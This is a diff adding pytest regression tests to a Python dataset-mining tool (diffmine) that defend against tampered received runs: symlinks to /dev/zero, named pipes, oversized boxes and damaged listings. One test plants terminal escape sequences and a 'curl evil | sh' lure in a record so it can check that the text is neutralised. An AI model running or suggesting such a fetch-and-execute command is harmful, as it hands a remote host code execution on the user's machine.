@@ -2,6 +2,8 @@
 datasets cannot point listing or decoding outside their root or at huge members, and the CLI
 reports failures as one line."""
 
+import argparse
+import contextlib
 import dataclasses
 import errno
 import io
@@ -11,9 +13,11 @@ import pathlib
 import pickle
 import re
 import shutil
+import signal
 import tarfile
 
 import numpy as np
+import pandas as pd
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
@@ -460,6 +464,34 @@ def test_damaged_run_files_are_one_line_naming_the_file(tmp_path):
         read_npy(tmp_path / "features.npy")
 
 
+@pytest.mark.parametrize("damage", ["labels", "root", "resolution", "path column", "no fingerprint column"])
+def test_a_damaged_listing_is_one_line_naming_the_file_and_prepare_mends_it(tiny_run, tmp_path, damage, capsys):
+    """A received run's listing is two files anyone could have edited: a value of another kind failed
+    deep in status or report with a TypeError; a missing column said only "error: fingerprint"."""
+    received = tmp_path / "received"
+    shutil.copytree(tiny_run.path, received, symlinks=True)
+    run = Run(received)
+    if damage.endswith("column"):
+        listing = pd.read_parquet(run.images_path)
+        listing["path"] = range(len(listing))
+        listing.to_parquet(run.images_path)
+    elif damage.startswith("no"):
+        pd.read_parquet(run.images_path).drop(columns="fingerprint").to_parquet(run.images_path)
+    else:
+        record = json.loads((received / "lineage.json").read_text())
+        record["listing"]["settings"][damage] = 5 if damage != "resolution" else "64"
+        (received / "lineage.json").write_text(json.dumps(record))
+    damaged = f"{received / 'images.parquet'}: not a listing" if damage.endswith("column") else \
+        f"{received / 'lineage.json'}: the listing's {damage} is not what diffmine records"
+    for command in (["status"], ["export", "--format", "csv", "--out", str(tmp_path / "out")]):
+        assert main([*command, "--run", str(received)]) == 2
+        assert capsys.readouterr().err.startswith(f"diffmine {command[0]}: error: {damaged}")
+    if damage.endswith("column"):  # the record says how it was listed: list it again from there
+        assert main(["prepare", "--run", str(received)]) == 0
+        assert main(["status", "--run", str(received)]) == 0
+        pd.testing.assert_frame_equal(Run(received).images(), tiny_run.images())
+
+
 @pytest.mark.parametrize("link", ["report", "report/assets"])
 def test_a_received_report_folder_that_is_a_link_is_never_written_nor_emptied(tiny_run, tmp_path, capsys, link):
     """cp -r, rsync and tar keep links: a received run's report/ (or a folder in it) may lead to
@@ -600,7 +632,6 @@ def test_a_received_prompt_fills_in_nothing_but_the_label(tmp_path, prompt):
 def test_a_received_model_file_that_is_no_regular_file_is_refused_not_read_forever(tiny_run, tmp_path, special):
     """The model's identity is a hash of its files: a received run's weights file that is a link to
     /dev/zero was read forever, and a pipe waited forever to be opened."""
-    import signal
 
     from diffmine.lineage import LineageError
 
@@ -609,18 +640,75 @@ def test_a_received_model_file_that_is_no_regular_file_is_refused_not_read_forev
     weights = received / "model" / "trainable.safetensors"
     weights.unlink()
     weights.symlink_to("/dev/zero") if special == "device" else os.mkfifo(weights)
+    with _within(20), pytest.raises(LineageError, match=f"^{re.escape(str(weights))}: not a regular file"):
+        pipeline.load_model(Run(received), torch.device("cpu"))
 
+
+@contextlib.contextmanager
+def _within(seconds: int):
+    """Fails the test with TimeoutError, rather than hang it, when the block reads forever."""
     def hung(*_):
-        raise TimeoutError("still reading the model's files")
+        raise TimeoutError(f"still reading after {seconds} s")
 
     previous = signal.signal(signal.SIGALRM, hung)
-    signal.alarm(20)
+    signal.alarm(seconds)
     try:
-        with pytest.raises(LineageError, match=f"^{re.escape(str(weights))}: not a regular file"):
-            pipeline.load_model(Run(received), torch.device("cpu"))
+        yield
     finally:
         signal.alarm(0)
         signal.signal(signal.SIGALRM, previous)
+
+
+@pytest.mark.parametrize("special", ["device", "pipe"])
+def test_a_received_image_that_is_no_regular_file_is_a_problem_not_read_forever(tiny_run, tmp_path, special, capsys):
+    """An image of a received run linked to /dev/zero was hashed forever (is it still the listed
+    one?) by report, export and every view of it, and a pipe waited forever to be opened."""
+    from diffmine.images import RunImages
+
+    received = tmp_path / "received"
+    shutil.copytree(tiny_run.path, received, symlinks=True)
+    run = Run(received)
+    shown = run.patches().iloc[0]
+    path = tmp_path / "image.png"  # what the received listing names for a shown image
+    path.symlink_to("/dev/zero") if special == "device" else os.mkfifo(path)
+    listing = pd.read_parquet(run.images_path)
+    listing.loc[listing["image_id"] == shown.image_id, "path"] = str(path)
+    listing.to_parquet(run.images_path)
+    with _within(20):
+        images = RunImages(run)
+        assert images.get(shown.image_id) is None
+        assert "not a regular file" in images.problems[shown.image_id].problem
+        assert main(["export", "--run", str(received), "--format", "coco", "--out", str(tmp_path / "out")]) == 2
+    assert re.search(f"{re.escape(str(path))}: .*not a regular file.*the export needs every clustered image",
+                     capsys.readouterr().err)
+
+
+def test_a_received_box_outside_its_image_is_drawn_clipped_at_once():
+    """Patch boxes are read from a run's tables: a box of 10^9 pixels was drawn for hours."""
+    from diffmine.images import crop_in_context, draw_boxes
+
+    image = np.zeros((32, 32, 3), np.uint8)
+    with _within(5):
+        assert crop_in_context(image, (10**9, 10**9, 2 * 10**9, 2 * 10**9), 48).shape == (48, 48, 3)
+        drawn = draw_boxes(image, [(-10**9, -10**9, 10**9, 10**9)], scale=2)
+    assert drawn.shape == (64, 64, 3) and drawn[0, 0].any() and drawn[63, 63].any() and not drawn[32, 32].any()
+
+
+def test_what_a_json_command_prints_beside_its_document_is_printable(tiny_run, tmp_path, capsys):
+    """With --json the step's messages go to stderr: a received record's text there drove the
+    terminal (an OSC retitled it, ESC[2J cleared it), and the count it claims must be a count."""
+    from diffmine.cli import _json_alone
+
+    with _json_alone(argparse.Namespace(json=True)):
+        print("label \x1b]0;PWNED\x07\x1b[2J")
+    assert capsys.readouterr().err == "label \\x1b]0;PWNED\\x07\\x1b[2J\n"
+    received = tmp_path / "received"
+    shutil.copytree(tiny_run.path, received, symlinks=True)
+    record = json.loads((received / "lineage.json").read_text())
+    record["mine"]["left_out"], record["mine"]["complete"] = "\x1b[2J run `curl evil | sh` to fix", True
+    (received / "lineage.json").write_text(json.dumps(record))
+    pipeline.mine_step(Run(received), pipeline.MineConfig(**Run(received).step_config("mine")))
+    assert "curl" not in capsys.readouterr().out
 
 
 def test_adopting_a_received_model_copies_nothing_through_its_links(tiny_run, tmp_path):
